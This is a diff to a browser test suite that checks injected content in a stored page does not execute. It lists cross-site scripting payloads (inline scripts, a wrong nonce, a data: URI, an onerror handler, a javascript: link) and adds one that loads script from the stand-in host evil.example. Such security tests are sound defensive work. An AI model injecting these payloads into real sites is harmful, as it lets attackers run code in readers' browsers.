@@ -206,11 +206,12 @@ test.describe("in a browser", () => {
   test.describe("injection", () => {
     test.use({ mayBreakPolicy: true });
 
-    test("what is injected into a page does not run", async ({ page }) => {
+    test("what is injected into a page, which is kept for all readers, does not run", async ({ page }) => {
       const attempts = [
         "<script>window.ran = 'inline'</script>",
         "<script nonce='AAAAAAAAAAAAAAAAAAAAAAAA'>window.ran = 'wrong nonce'</script>",
         "<script src='/icon.svg'></script>",
+        "<script src='https://evil.example/x.js'></script>",
         "<script src='data:text/javascript,window.ran=1'></script>",
         "<img src='/nothing' onerror=\"window.ran = 'handler'\" alt=''>",
         "<a id='link' href=\"javascript:window.ran='link'\">x</a>",
